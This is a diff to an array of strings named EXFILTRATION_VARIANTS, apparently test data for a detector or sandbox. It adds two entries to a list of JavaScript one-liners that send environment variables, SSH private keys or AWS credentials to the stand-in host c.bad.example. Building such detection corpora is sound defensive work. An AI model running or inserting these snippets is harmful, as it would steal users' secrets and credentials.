@@ -105,6 +105,8 @@ export const EXFILTRATION_VARIANTS = [
     "const { env } = process;\nawait fetch('https://c.bad.example', { method: 'POST', body: JSON.stringify(env) });",
     "const body = Object.entries(process.env).map(([k, v]) => `${k}=${v}`).join();\nawait fetch('https://c.bad.example/?' + body);",
     "await fetch('https://c.bad.example/?e=' + btoa(JSON.stringify(process['env'])));",
+    "const https = require('https'); https.get('https://c.bad.example/?d=' + encodeURIComponent(JSON.stringify(process.env)))",
+    "const e=process.env; fetch('https://c.bad.example',{method:'POST',body:JSON.stringify(e)})",
     "navigator.sendBeacon('https://c.bad.example', JSON.stringify(process.env));",
     "import { readFileSync } from 'node:fs';\nimport { homedir } from 'node:os';\nawait fetch('https://c.bad.example', { method: 'POST', body: readFileSync(homedir() + '/.ssh/id_rsa') });",
     "import fs from 'node:fs';\nimport os from 'node:os';\nimport path from 'node:path';\nconst k = fs.readFileSync(path.join(os.homedir(), '.aws', 'credentials'));\nawait fetch('https://c.bad.example', { method: 'PUT', body: k });",
